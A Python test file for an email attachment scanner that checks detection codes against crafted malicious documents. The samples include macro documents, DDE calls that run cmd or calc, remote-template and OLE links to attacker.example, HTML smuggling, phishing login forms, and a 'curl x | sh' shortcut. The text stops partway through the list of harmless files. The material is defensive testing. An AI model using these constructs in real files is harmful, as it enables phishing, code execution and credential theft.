"""What is found inside of single files: each kind of attack by its own code, and nothing in honest files of the same kinds."""

from __future__ import annotations

import base64
import gzip
import io
import struct
import time
import zlib
from collections.abc import Mapping

import pikepdf
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from gatepost.checks.attachments.formats import MAGIC, Kind
from gatepost.checks.attachments.inspect import inspect_file
from gatepost.checks.attachments.item import Inspection
from gatepost.checks.attachments.kinds import kind_of
from gatepost.checks.attachments.objects import URL_MONIKER
from gatepost.mail import file_limits, limits
from support import archives, files
from support.compound_file import Storage, compound

PASSWORDS = ("wrong", "infected")
EXCEL_TRIES = "VelvetSweatshop"


def look(name: str, data: bytes) -> Inspection:
    """Inspect a file as the jail does: its kind first."""
    return inspect_file(kind_of(data, name), name, data, PASSWORDS)


def words(inspection: Inspection) -> set[str]:
    """Give the last words of the codes that were found."""
    return {finding.code.removeprefix("attachment.") for finding in inspection.findings}


def instruction(text: str) -> str:
    """Give a header of a Word document with a field that is cut into two runs."""
    return f"<w:hdr><w:instrText>{text[:3]}</w:instrText><w:instrText>{text[3:]}</w:instrText></w:hdr>"


RELS = "word/_rels/document.xml.rels"
DDE_LINK = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
AUTO_OPEN = '<workbook><definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>'
JAVASCRIPT = files.action("JavaScript", JS="app.launchURL('https://login.attacker.example/verify?id=7')")
PERCENT = "".join(
    f"%{byte:02x}" for byte in b"<html><body><form><input type='password'></form><script>go()</script></body></html>"
)

OFFICE = [
    ("auto macro.docm", files.with_macro(), {"macro", "autoopen", "suspicious-macro"}),
    ("macro.docm", files.with_macro("Function Total(a)\r\nTotal = a * 1.19\r\nEnd Function"), {"macro"}),
    (
        "macro.doc",
        files.doc({"Macros": files.vba_project(files.AUTO_MACRO)}),
        {"macro", "autoopen", "suspicious-macro"},
    ),
    ("sheet.xls", files.macro_sheet(), {"macro", "autoopen"}),
    (
        "sheet.xlsm",
        files.docx(parts={"xl/macrosheets/sheet1.xml": "<x/>", "xl/workbook.xml": AUTO_OPEN}),
        {"macro", "autoopen"},
    ),
    (
        "template.docx",
        files.docx(parts={RELS: files.relation("attachedTemplate", "https://attacker.example/t.dotm")}),
        {"template"},
    ),
    (
        "share.docx",
        files.docx(parts={RELS: files.relation("attachedTemplate", "\\\\192.0.2.1\\share\\t.dotm")}),
        {"template"},
    ),
    (
        "follina.docx",
        files.docx(parts={RELS: files.relation("oleObject", "mhtml:https://attacker.example/x.html!x")}),
        {"remote-object"},
    ),
    (
        "dde.docx",
        files.docx(parts={"word/header1.xml": instruction('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')}),
        {"dde"},
    ),
    ("dde.xlsx", files.docx(parts={"xl/externalLinks/externalLink1.xml": DDE_LINK}), {"dde"}),
    (
        "dde.doc",
        compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 508 + b'\x13 DDEAUTO c:\\cmd.exe "/k calc" \x14x\x15'}),
        {"dde"},
    ),
    ("package.docx", files.docx(parts={"word/embeddings/oleObject1.bin": compound({"x": b"y"})}), {"object"}),
    (
        "package.doc",
        files.doc(
            {"ObjectPool": Storage({"_1": Storage({"\1Ole10Native": files.native_object("a.exe", files.PROGRAM)})})}
        ),
        {"object"},
    ),
    ("activex.docx", files.docx(parts={"word/activeX/activeX1.bin": b"x"}), {"activex"}),
    ("equation.doc", files.doc({"ObjectPool": Storage({"_1": Storage({"Equation Native": b"x"})})}), {"equation"}),
    (
        "class.doc",
        files.doc({"ObjectPool": Storage({"_1": Storage({"x": b"x"}, clsid="0002CE02-0000-0000-C000-000000000046")})}),
        {"equation"},
    ),
    ("equation.rtf", files.rtf_object("Equation.3", b"x" * 60), {"equation"}),
    ("package.rtf", files.rtf_object("Package", files.native_object("a.exe", files.PROGRAM)[4:]), {"object"}),
    ("object.rtf", files.rtf_object("OtherClass", b"x" * 60), {"object"}),
    ("template.rtf", files.rtf(r"{\*\template https://attacker.example/t.dot}"), {"template"}),
    ("escaped.rtf", files.rtf(r"{\*\template \u104?\u116?\u116?\u112?\u58?\u47?\u47?x}"), {"template"}),
    ("dde.rtf", files.rtf(r'{\field{\*\fldinst {DDEAUTO c:\\cmd.exe "/k calc"}}}'), {"dde"}),
    ("sealed.docx", files.encrypted_docx("not given"), {"encrypted"}),
    ("given.docx", files.encrypted_docx("infected"), {"decrypted"}),
    ("excel tries.xlsx", files.encrypted_docx(EXCEL_TRIES), {"hidden-encryption"}),
    ("table.csv", b"name,sum\r\n=cmd|'/c calc'!A0,1\r\n", {"dde"}),
    (
        "basic.odt",
        files.archive(
            {"mimetype": "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": "<x/>"}, stored=True
        ),
        {"macro"},
    ),
]

PORTABLE = [
    ("opens.pdf", files.pdf({"/OpenAction": JAVASCRIPT}), {"openaction", "javascript"}),
    (
        "script.pdf",
        files.pdf({"/Names": pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", JAVASCRIPT]))}),
        {"openaction", "javascript"},
    ),
    ("launch.pdf", files.pdf({"/OpenAction": files.action("Launch", F="cmd.exe")}), {"openaction", "launch"}),
    (
        "share.pdf",
        files.pdf({"/OpenAction": files.action("GoToR", F="\\\\192.0.2.1\\x.pdf")}),
        {"openaction", "launch"},
    ),
    ("carries.pdf", files.pdf(embedded={"a.exe": files.PROGRAM}), {"embedded"}),
    (
        "form.pdf",
        files.pdf({"/OpenAction": files.action("SubmitForm", F="https://attacker.example/")}),
        {"openaction", "submit"},
    ),
    ("sealed.pdf", files.pdf(encryption=pikepdf.Encryption(user="not given", owner="x")), {"encrypted"}),
    ("given.pdf", files.pdf(encryption=pikepdf.Encryption(user="infected", owner="x")), {"decrypted"}),
    (
        "streams.pdf",
        files.pdf({"/OpenAction": JAVASCRIPT}, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        {"openaction", "javascript"},
    ),
    ("broken.pdf", b"%PDF-1.4\n1 0 obj<</S/J#61vaScript/JS(x)>>", {"damaged", "javascript"}),
    ("code.pdf", files.pdf_with_code(files.LINK), {"qr"}),
    ("also an archive.pdf", files.pdf() + files.archive({"a.exe": files.PROGRAM}), {"polyglot"}),
]

PAGES = [
    ("smuggles.html", files.smuggling_page(files.archive({"a.exe": files.PROGRAM})), {"smuggled", "activehtml"}),
    (
        "builds.html",
        b"<html><script>a.href=URL.createObjectURL(new Blob([x()]));a.download='a.zip'</script>",
        {"smuggled", "activehtml"},
    ),
    (
        "link.html",
        b'<a download="a.zip" href="data:application/zip;base64,'
        + base64.b64encode(files.archive({"a": "b" * 50}))
        + b'">x</a>',
        {"smuggled"},
    ),
    (
        "codes.html",
        b"<script>x=[" + ",".join(str(byte) for byte in files.PROGRAM).encode() + b"]</script>",
        {"smuggled", "activehtml"},
    ),
    (
        "joined.html",
        b"<script>x='"
        + base64.b64encode(files.PROGRAM)[:100]
        + b"' + '"
        + base64.b64encode(files.PROGRAM)[100:]
        + b"'</script>",
        {"smuggled", "activehtml"},
    ),
    (
        "writes.html",
        f"<script>document.write(unescape('{PERCENT}'))</script>".encode(),
        {"obfuscated", "login-form", "activehtml"},
    ),
    ("login.html", b"<form action='https://attacker.example/'><input name=p type=password></form>", {"login-form"}),
    ("leads.html", b"<meta http-equiv=refresh content='0; url=https://attacker.example/'>", {"redirect"}),
    (
        "goes.html",
        b"<html><script>window.location.href='https://attacker.example/'</script>",
        {"redirect", "activehtml"},
    ),
    ("opens.html", b"<html><a href='search-ms:query=x&crumb=location:\\\\192.0.2.1'>x</a>", {"protocol"}),
    (
        "drawing.svg",
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><circle/></svg>",
        {"activehtml", "active-drawing"},
    ),
    (
        "smuggles.svg",
        b"<svg><script>x='" + base64.b64encode(files.archive({"a": "b" * 50})) + b"'</script></svg>",
        {"smuggled", "activehtml", "active-drawing"},
    ),
]

PAGES += [
    (
        "frame.html",
        b"<iframe src='data:text/html;base64," + base64.b64encode(b"<html><input type=password name=p></html>") + b"'>",
        {"obfuscated", "login-form"},
    ),
    (
        "taken apart.html",
        b"<script>x=window['URL']['createObje'+'ctURL'](new window['Bl'+'ob']([y]))</script>",
        {"smuggled", "activehtml"},
    ),
]
OFFICE += [
    ("frame.docx", files.docx(parts={RELS: files.relation("frame", "https://attacker.example/x.html")}), {"external"}),
    ("moniker.rtf", files.rtf_object("OLE2Link", b"x" * 20 + URL_MONIKER + b"y" * 20), {"object", "remote-object"}),
    ("moniker.doc", files.doc({"\1Ole": b"x" * 20 + URL_MONIKER + b"y" * 20}), {"remote-object"}),
    (
        "sheet.xlsb",
        files.docx(parts={"xl/macrosheets/sheet1.bin": b"x", "xl/workbook.bin": "Auto_Open".encode("utf-16-le")}),
        {"macro", "autoopen"},
    ),
]

PAGES += [
    ("commented.svg", b"<!-- a drawing --><svg onload='x()'></svg>", {"activehtml", "active-drawing"}),
    (
        "page in.xml",
        b"<?xml version='1.0'?><a><h:script xmlns:h='http://www.w3.org/1999/xhtml'>x</h:script><script>y</script></a>",
        {"activehtml"},
    ),
]

OTHERS = [
    ("report.lnk", files.lnk(), {"shortcut"}),
    ("share.url", b"[InternetShortcut]\r\nURL=file://192.0.2.1/share/a.exe\r\n", {"shortcut"}),
    ("icon.url", b"[InternetShortcut]\r\nURL=https://example.org/\r\nIconFile=\\\\192.0.2.1\\x.ico\r\n", {"shortcut"}),
    ("page.url", b"[InternetShortcut]\r\nURL=https://example.org/\r\n", {"weblink"}),
    ("a.desktop", b"[Desktop Entry]\nExec=sh -c 'curl x | sh'\n", {"shortcut"}),
    ("notes.one", files.onenote(files.PROGRAM), {"object"}),
    ("script.one", files.onenote(b"WScript.CreateObject(0)"), {"object", "script"}),
    ("code.png", files.png(files.qr_image(files.LINK)), {"qr"}),
    ("photo.png", files.png() + files.archive({"a.exe": files.PROGRAM}), {"polyglot"}),
    ("picture.png", files.png() + b"Rar!\x1a\x07\1\0" + b"x" * 60, {"polyglot"}),
    ("start.url", b"[InternetShortcut]\nURL=https://example.org/\nWorkingDirectory=\\\\192.0.2.1\\a\n", {"shortcut"}),
    ("indented.url", b"[InternetShortcut]\r\n" + b" " * 300 + b"URL=file://192.0.2.1/a.exe\r\n", {"shortcut"}),
    ("quoted.url", b'[InternetShortcut]\r\nURL="file://192.0.2.1/a.exe"\r\n', {"shortcut"}),
    (
        "padded.url",
        b"[x]\n" + b";" * file_limits.SHORTCUT_BYTES + b"\n[InternetShortcut]\nURL=file://192.0.2.1/a.exe\n",
        {"shortcut", "partial"},
    ),
]

RUNS_BY_ITSELF = {"macro", "autoopen", "suspicious-macro"}
PROJECT = compound(files.vba_project(files.AUTO_MACRO).entries)
MACRO_RELATION = (
    f'<Relationships><Relationship Id="r1" Type="{files.RELATIONS}/xlMacrosheet" Target="a"/></Relationships>'
)
MACRO_SHEET = '<a:macrosheet xmlns:a="http://schemas.microsoft.com/office/excel/2006/main"/>'
TEMPLATE = files.relation("attachedTemplate", "https://attacker.example/t.dotm")
DOCUMENT = "<w:document xmlns:w='w'><w:instrText> DDEAUTO cmd </w:instrText></w:document>"
FLAT = f"<pkg:package xmlns:pkg='http://schemas.microsoft.com/office/2006/xmlPackage'>{TEMPLATE}</pkg:package>"
SAVED = base64.b64encode(
    b"ActiveMime" + b"\0" * 40 + zlib.compress(files.doc({"Macros": files.vba_project(files.AUTO_MACRO)}))
)
WORD_2003 = (
    b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument w:macrosPresent='yes' "
    b"xmlns:w='http://schemas.microsoft.com/office/word/2003/wordml'><w:docSuppData><w:binData w:name='editdata.mso'>"
    + SAVED
    + b"</w:binData></w:docSuppData></w:wordDocument>"
)
SAVED_PAGE = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="zz"\r\n\r\n--zz\r\nContent-Type: application/x-mso\r\n'
    b"Content-Transfer-Encoding: base64\r\n\r\n" + SAVED + b"\r\n--zz--\r\n"
)
SVG = "http://www.w3.org/2000/svg"
XHTML = "http://www.w3.org/1999/xhtml"
SCRIPT_LINK = base64.b64encode(b"new ActiveXObject('WScript.Shell').Run('calc.exe');\r\n").decode()
LINES = base64.encodebytes(files.archive({"a.exe": files.PROGRAM})).decode()


def presentation(packed: bytes) -> bytes:
    """Give a PowerPoint document before 2007 with a storage in its stream (MS-PPT 2.10.34)."""
    return compound({"PowerPoint Document": struct.pack("<HHII", 0x10, 0x1011, len(packed) + 4, 0) + packed})


def of_page(entry: str, action: pikepdf.Dictionary) -> bytes:
    """Give a PDF whose page has an entry that acts."""
    with pikepdf.open(io.BytesIO(files.pdf())) as document:
        document.pages[0].obj[entry] = pikepdf.Dictionary(O=action)
        saved = io.BytesIO()
        document.save(saved)
    return saved.getvalue()


TEMPLATED = files.docx(parts={RELS: files.relation("attachedTemplate", "https://attacker.example/t.dotm")})


OFFICE += [
    *[
        (f"{part} as project.docm", files.docx(parts={part: PROJECT}), RUNS_BY_ITSELF)
        for part in (
            "word/data.dat",
            "word/settings.bin",
            "word/printerSettings1.bin",
            "word/media/image1.png",
            "word/x.xml",
        )
    ],
    ("sheet among sheets.xlsx", files.docx(parts={"xl/worksheets/sheet2.xml": MACRO_SHEET}), {"macro"}),
    ("related sheet.xlsb", files.docx(parts={"xl/_rels/workbook.bin.rels": MACRO_RELATION}), {"macro"}),
    ("single quotes.xlsm", files.docx(parts={"xl/workbook.xml": AUTO_OPEN.replace('"', "'")}), {"autoopen"}),
    (
        "program.ppsx",
        files.docx(parts={"ppt/slides/slide1.xml": "<a:hlinkHover action='ppaction://program'/>"}),
        {"launch"},
    ),
    ("packed.ppt", presentation(zlib.compress(PROJECT)), RUNS_BY_ITSELF),
    (
        "both a message.doc",
        files.doc({"Macros": files.vba_project(files.AUTO_MACRO), "__properties_version1.0": b"\0" * 32}),
        RUNS_BY_ITSELF,
    ),
    *[
        (f"template {number}.docx", files.docx(parts={RELS: part}), {"template"})
        for number, part in enumerate(
            (
                TEMPLATE.encode("utf-16"),
                TEMPLATE.encode("utf-16-le"),
                TEMPLATE.replace("<Relationships>", '<r:Relationships xmlns:r="r">').replace(
                    "<Relationship ", "<r:Relationship "
                ),
                TEMPLATE.replace('"External"', '"&#69;xternal"'),
                TEMPLATE.replace("t.dotm", "t.dotm?a>b"),
                TEMPLATE.replace("https:", " https:"),
                TEMPLATE.replace("t.dotm", "t.dotm?" + "a" * 2_100),
                files.relation("attachedTemplate", "file://attacker.example/t.dotm"),
            )
        )
    ],
    (
        "padded.docx",
        files.archive(
            {f"customXml/item{number}.xml": "<a/>" for number in range(210)}
            | {"[Content_Types].xml": "<Types/>", RELS: TEMPLATE}
        ),
        {"template"},
    ),
    ("lower case.docx", files.archive({"[content_types].xml": "<Types/>", RELS: TEMPLATE}), {"template"}),
    ("flat.doc", FLAT.encode(), {"template"}),
    ("flat.xml", b"<?xml version='1.0'?><!--" + b" " * 5_000 + b"-->" + FLAT.encode(), {"template"}),
    ("grouped.rtf", files.rtf(r"{\*\template {http://attacker.example/t.dotm}}"), {"template"}),
    *[
        (f"dde in {part}.docx", files.docx(parts={part: content}), {"dde"})
        for part, content in (
            ("word/document2.xml", DOCUMENT),
            ("word/endnotes.xml", DOCUMENT),
            ("word/footnotes.xml", DOCUMENT.encode("utf-16")),
            ("word/comments.xml", DOCUMENT.replace("w:", "x:")),
            ("word/header2.xml", "<w:fldSimple w:instr='DDEAUTO cmd \"/k calc\"'/>"),
            ("word/header3.xml", "<w:instrText> QUOTE 68 68 69 65 85 84 79 32 99</w:instrText>"),
            ("word/header4.xml", "<w:instrText> DDEAUTO cmd </w:instrText>" + "<w:p>"),
            ("xl/externalLinks/a.xml", DDE_LINK.replace('"', "'")),
            ("xl/externalLinks/b.xml", f'<ddeLink ddeTopic="{"a" * 400}" ddeService="cmd"/>'),
        )
    ],
    *[
        (f"dde {number}.rtf", files.rtf(r"{\field{\*\fldinst " + code + "}}"), {"dde"})
        for number, code in enumerate(
            (
                r"{\b DD}{\b0 EAUTO c:\\cmd}",
                r"{\rtlch }{DDEAUTO c:\\cmd}",
                r"{D\'44EAUTO c:\\cmd}",
                r"{\uc1 D\u68?EAUTO c:\\cmd}",
                r"{DD{\*\bkmkstart a}EAUTO c:\\cmd}",
            )
        )
    ],
    *[
        (name, f"name,sum\r\n{formula}\r\n".encode(), {"dde"})
        for name, formula in (
            ("a.csv", "=wscript|'x'!A0"),
            ("b.csv", "=certutil|'-urlcache'!A0"),
            ("c.csv", "=SUM(1,2)*cmd|'/c calc'!A0"),
            ("d.csv", "=" + "1+" * 800 + "cmd|'/c calc'!A0"),
            ("a.xls", "=cmd|'/c calc'!A0"),
            ("a.prn", "=cmd|'/c calc'!A0"),
            ("a.dif", "=cmd|'/c calc'!A0"),
        )
    ],
    (
        "mimetype last.odt",
        files.archive(
            {
                "content.xml": "<x/>",
                "META-INF/manifest.xml": "<x/>",
                "Basic/Standard/Module1.xml": "<x/>",
                "mimetype": "x",
            }
        ),
        {"macro"},
    ),
    ("single quotes.doc", WORD_2003, RUNS_BY_ITSELF),
]

PORTABLE += [
    ("file url.pdf", of_page("/AA", files.action("URI", URI="file://192.0.2.1/share/x.exe")), {"launch"}),
    ("unc url.pdf", of_page("/AA", files.action("URI", URI="\\\\192.0.2.1\\share\\x.exe")), {"launch"}),
    ("slashes.pdf", of_page("/AA", files.action("GoToR", F="//192.0.2.1/share/x.pdf")), {"launch"}),
    ("page.pdf", of_page("/AA", files.action("JavaScript", JS="app.alert(1)")), {"openaction", "javascript"}),
]

PAGES += [
    *[
        (name, source.encode(), {"activehtml", "active-drawing"})
        for name, source in (
            ("prefix.svg", f"<s:svg xmlns:s='{SVG}'><s:script>top.open(1)</s:script></s:svg>"),
            ("slash.svg", f"<svg/onload=top.open(1) xmlns='{SVG}'>"),
            ("pointer.svg", f"<svg xmlns='{SVG}'><rect onpointerenter='top.open(1)'/></svg>"),
            ("scheme.svg", f"<svg xmlns='{SVG}'><a href='java&#115;cript:alert(1)'/></svg>"),
            ("entity.svg", f"<!DOCTYPE svg [<!ENTITY a '&#60;script>x&#60;/script>'>]><svg xmlns='{SVG}'>&a;</svg>"),
        )
    ],
    ("slash.html", b"<html><body/onload=go()></body></html>", {"activehtml"}),
    ("scheme.html", b"<html><a href='&#106;avascript:alert(1)'>x</a></html>", {"activehtml"}),
    (
        "prefix.xml",
        f"<?xml version='1.0'?><x:r xmlns:x='{XHTML}'><x:script>go()</x:script></x:r>".encode(),
        {"activehtml"},
    ),
    ("wide.xml", f"<?xml version='1.0'?><r xmlns='{XHTML}'><script>go()</script></r>".encode("utf-16"), {"activehtml"}),
    (
        "unmarked.xml",
        f"<?xml version='1.0'?><r xmlns='{XHTML}'><script>x</script></r>".encode("utf-16-le"),
        {"activehtml"},
    ),
    (
        "text.html",
        f"<html><a download='invoice.js' href='data:application/octet-stream;base64,{SCRIPT_LINK}'>x</a>".encode(),
        {"smuggled"},
    ),
    ("lines.html", f"<html><a href='data:application/zip;base64,\n{LINES}'>x</a>".encode(), {"smuggled"}),
    ("lines in script.html", f"<html><script>d=`{LINES}`</script>".encode(), {"smuggled", "activehtml"}),
    ("lines in area.html", f"<html><textarea>{LINES}</textarea>".encode(), {"smuggled"}),
    (
        "named elsewhere.html",
        b"<html><script>n='Invoice 7.iso';a.href=URL.createObjectURL(new Blob([x()]));a.download=n</script>",
        {"smuggled", "activehtml"},
    ),
    (
        "typed.html",
        b"<html><script>a.href=URL.createObjectURL(new Blob([x()],{type:'application/octet-stream'}))</script>",
        {"smuggled", "activehtml"},
    ),
    (
        "unknown.html",
        b"<html><script>d='"
        + base64.b64encode(bytes(range(240, 0, -1)) * 5)
        + b"';u=URL.createObjectURL(new Blob([f(d)]))</script>",
        {"smuggled", "activehtml"},
    ),
]

ODF = "urn:oasis:names:tc:opendocument:xmlns"


def odf_source(content: str) -> str:
    """Give an OpenDocument document in XML with the usual prefixes."""
    spaces = f"xmlns='{ODF}:office:1.0' xmlns:s='{ODF}:script:1.0' xmlns:w='{ODF}:drawing:1.0' xmlns:x='http://www.w3.org/1999/xlink'"
    return f"<d {spaces}>{content}</d>"


def odf(content: str = "", parts: Mapping[str, bytes | str] | None = None) -> bytes:
    """Give an OpenDocument text."""
    named = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": odf_source(content)}
    return files.archive({**named, **(parts or {})}, stored=True)


MODULE = "<s:module s:name='Module1'>Sub Main</s:module>"
LOADED = "<s:event-listener s:event-name='dom:load' x:href='vnd.sun.star.script:S.M.Main?language=Basic'/>"
FOREIGN = "<w:object x:href='https://attacker.example/a.ods'/>"
CALL = "cmd|'/c calc'!A0"
SPREADSHEET = (
    "<?xml version='1.0'?><?mso-application progid='Excel.Sheet'?><Workbook><Cell ss:Formula=\"="
    + CALL
    + '"/></Workbook>'
)

OFFICE += [
    ("module.odt", odf(parts={"Pictures/a.png": f"<d xmlns:s='{ODF}:script:1.0'>{MODULE}</d>"}), {"macro"}),
    ("single quotes.odt", odf(LOADED), {"autoopen"}),
    ("object.odt", odf(FOREIGN), {"remote-object"}),
    ("button.odt", odf(LOADED.replace("dom:load", "dom:click")), {"macro"}),
    ("program.odt", odf("<w:event-listener w:action='execute' x:href='../../calc.exe'/>"), {"launch"}),
    ("locked.odt", odf(parts={"META-INF/manifest.xml": "<m:manifest xmlns:m='m'><m:encryption-data/></m:manifest>"}), {"encrypted"}),
    ("flat.fodt", f"<?xml version='1.0'?>{odf_source(LOADED + MODULE)}".encode(), {"autoopen", "macro"}),
    ("lost directory.docx", TEMPLATED[: TEMPLATED.rindex(b"PK\1\2")], {"template", "damaged"}),
    ("lost end.docx", TEMPLATED[:-30], {"template", "damaged"}),
    ("own network.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "file:///\\\\srv01\\letters\\a.dotx")}), {"external"}),
    ("own domain.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "file://files.example.local/a.dotx")}), {"external"}),
    ("number.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "\\\\3221225985\\a.dotx")}), {"template"}),
    ("port.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "\\\\attacker@80\\a.dotx")}), {"template"}),
    ("own network.rtf", files.rtf(r"{\*\template \\\\srv01\\letters\\a.dot}"), {"external"}),
    ("own network.pdf", of_page("/AA", files.action("URI", URI="file://srv01/letters/a.pdf")), {"external"}),
    ("page.xls", f"<html><table><tr><td>={CALL}</td></tr></table></html>".encode(), {"dde"}),
    ("attribute.xls", f'<html><table><tr><td x:fmla="={CALL}">1</td></tr></table></html>'.encode(), {"dde"}),
    ("entities.xls", f"<html><table><tr><td>&#61;{CALL.replace('|', '&#124;')}</td></tr></table></html>".encode(), {"dde"}),
    ("sheet of xml.xls", SPREADSHEET.encode(), {"dde"}),
]  # fmt: skip

SMUGGLED = files.smuggling_page(archives.zipped({"a.exe": files.PROGRAM})).removeprefix(b"<!DOCTYPE html>")
URL = b"[InternetShortcut]\r\nURL=file://192.0.2.1/a.exe\r\n"
DISGUISED = [
    *(
        (f"{mark[:3]!r}.html", mark + SMUGGLED, {"smuggled", "activehtml"})
        for mark in (
            b"GIF89a",
            b"ID3",
            b"BZh",
            b"<!--" + b"\1" * 45 + b"-->",
            b"<html>" + bytes(60),
            b"<!--%PDF-1.7-->",
            b"GIF89a<!--%PDF-1.7-->",
        )
    ),
    *((f"{mark[:3]!r}.url", mark + URL, {"shortcut"}) for mark in (b"GIF89a\r\n", b"\1" * 100 + b"\r\n")),
    *(
        (f"{mark[:3]!r}.pdf", mark + files.pdf({"/OpenAction": files.action("Launch", F="cmd.exe")}), {"launch"})
        for mark in (b"GIF89a\n", b"ID3\n", b"%!PS\n", b"{\\rt\n", b"FLV\1\n")
    ),
]


@pytest.mark.parametrize(("name", "data", "expected"), DISGUISED)
def test_a_mark_at_the_front_hides_nothing(name: str, data: bytes, expected: set[str]) -> None:
    """A file is looked into as what its program reads, whatever magic number its sender put in front."""
    assert expected <= words(look(name, data))


TEXT = b"This is a comment.\r\n" * 5
BEHIND = {
    "rar": archives.rar5({"invoice.js": b"x"}),
    "7z": archives.seven_zipped({"invoice.js": b"x"}),
    "cab": archives.cabbed({"invoice.js": b"x"}),
}


@pytest.mark.parametrize("behind", BEHIND)
@pytest.mark.parametrize("front", [TEXT, files.pdf(), b"%!PS\n", b"wOFF" + bytes(40)])
def test_an_archive_behind_something_to_look_at_is_given_out(front: bytes, behind: str) -> None:
    """Programs find RAR, 7z and cabinet archives behind whatever stands in front: it is told, and opened."""
    inspection = look(f"docs.{behind}", front + BEHIND[behind])
    assert "polyglot" in words(inspection)
    assert [member.content for member in inspection.members if member.unseen] == [BEHIND[behind]]


@pytest.mark.parametrize("mark", [b"7z\xbc\xaf\x27\x1c", b"MSCF\0\0\0\0", b"Rar!\x1a\x07"])
def test_a_mark_alone_is_no_archive(mark: bytes) -> None:
    """Six letters make no archive, and a real one behind many of them is found."""
    decoys = TEXT + (mark + b"\xff" * 30) * 50
    assert "polyglot" not in words(look("a.txt", decoys))
    assert [member.content for member in look("a.pdf", files.pdf() + decoys + BEHIND["7z"]).members] == [BEHIND["7z"]]


def test_a_file_within_a_pdf_makes_no_polyglot() -> None:
    """An archive that a PDF holds as a file is given out, and nothing to wonder at."""
    held = files.pdf()[:-7] + b"1 0 obj <<>> stream\r\n" + BEHIND["7z"] + b"\r\nendstream endobj trailer %%EOF"
    inspection = look("a.pdf", held)
    assert "polyglot" not in words(inspection)
    assert inspection.members


@pytest.mark.parametrize("unit", [b"{\\a\\b }", b"\\bin1 a", b"{\\*\\objdata 01}"])
def test_an_rtf_document_full_of_marks_is_parsed_within_bounds(unit: bytes) -> None:
    """What costs the parser most is bounded by number, not by size alone, and the rest is told."""
    begin = time.process_time()
    assert "partial" in words(look("a.rtf", b"{\\rtf1 \\objdata " + unit * (4_000_000 // len(unit)) + b"}"))
    assert time.process_time() - begin < 8


def test_an_object_behind_a_long_rtf_text_is_found() -> None:
    """What is parsed begins at the first object, so that text in front of it uses nothing up."""
    text = b"\\par x\n" * (file_limits.RTF_MARKS + 10)
    data = b"{\\rtf1 " + text + b"{\\object{\\*\\objclass Package}{\\*\\objdata 0105000002000000}}}"
    assert words(look("a.rtf", data)) == {"partial", "object"}


@pytest.mark.parametrize(("name", "data", "expected"), [*OFFICE, *PORTABLE, *PAGES, *OTHERS])
def test_each_attack_has_its_code(name: str, data: bytes, expected: set[str]) -> None:
    """A file is found to be exactly what was made dangerous about it."""
    assert words(look(name, data)) == expected


HONEST = [
    ("minutes.docx", files.docx(parts={RELS: files.relation("hyperlink", "https://example.org/")})),
    ("picture.docx", files.docx(parts={"word/media/image1.png": files.png()})),
    ("chart.pptx", files.docx(parts={"ppt/embeddings/workbook1.xlsx": files.docx()})),
    ("printed.xlsx", files.docx(parts={"xl/printerSettings/printerSettings1.bin": b"x" * 100})),
    ("template.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "Normal.dotm")})),
    ("field.docx", files.docx(parts={"word/header1.xml": instruction("PAGE \\* MERGEFORMAT")})),
    ("minutes.doc", files.doc()),
    ("sums.xls", files.workbook(struct.pack("<HH", 0x85, 8) + b"\0\0\0\0\0\0\1A")),
    ("letter.rtf", files.rtf(r"{\field{\*\fldinst HYPERLINK ""https://example.org/""}}")),
    ("report.pdf", files.pdf()),
    ("jumps.pdf", files.pdf({"/OpenAction": files.action("GoTo", D="x")})),
    ("compressed.pdf", files.pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate)),
    ("printable.pdf", files.pdf(encryption=pikepdf.Encryption(user="", owner="x"))),
    ("page.html", b"<!DOCTYPE html><html><head><style>p {}</style></head><body><p>Minutes</p><img src='data:image/png;base64," + base64.b64encode(files.png()) + b"'></body></html>"),
    ("structured.html", b'<html><script type="application/ld+json">{"@type": "EmailMessage"}</script></html>'),
    ("saved by office.html", b"<html><link rel=File-List href='file:///C:/Users/a/filelist.xml'><a href='file:///C:/a.txt'>x</a></html>"),
    ("shows a report.html", b"<html><embed src='data:application/pdf;base64," + base64.b64encode(files.pdf()) + b"'></html>"),
    ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='1'/></svg>"),
    ("photo.png", files.png()),
    ("contract.docx.p7m", b"\x30\x82\x10\x00\x06\x09" + b"\1" * 60 + files.docx() + b"\xa0\x82" + b"\2" * 900),
    ("holds a workbook.pdf", files.pdf()[:-7] + files.docx() + b"\nendstream endobj trailer startxref %%EOF"),
    ("notes.one", files.onenote(files.png())),
    ("table.csv", b"name,sum\r\n-5,=A1+B2\r\n+49 30 1234,x\r\n"),
    ("meeting.ics", b"BEGIN:VCALENDAR\r\nSUMMARY:Minutes\r\nEND:VCALENDAR\r\n"),
    ("feed.xml", b"<?xml version='1.0'?><rss><item>x</item></rss>"),
    ("server.log", b"GET /atob HTTP/1.1 \x1b[0m\n" * 50),
    ("fix.patch", b"--- a/x.js\n+++ b/x.js\n+ document.write(atob(x))\n"),
    ("minutes.msg", files.outlook_message("minutes.txt", b"text")),
    ("own template.docx", files.docx(parts={RELS: files.relation("attachedTemplate", "file:///C:\\Users\\a\\letter.dotx")})),
    ("own template.rtf", files.rtf(r"{\*\template C:\\\\Users\\\\a\\\\letter.dot}{\field{\*\fldinst { PAGE }}}")),
    ("says dde.docx", files.docx(parts={"word/header1.xml": "<w:p><w:instrText> PAGE </w:instrText><w:t>DDE is old</w:t>"})),
    ("pipes.csv", b"name|sum!\r\n-5|yes! no\r\n-x | 'quoted' | y\r\n"),
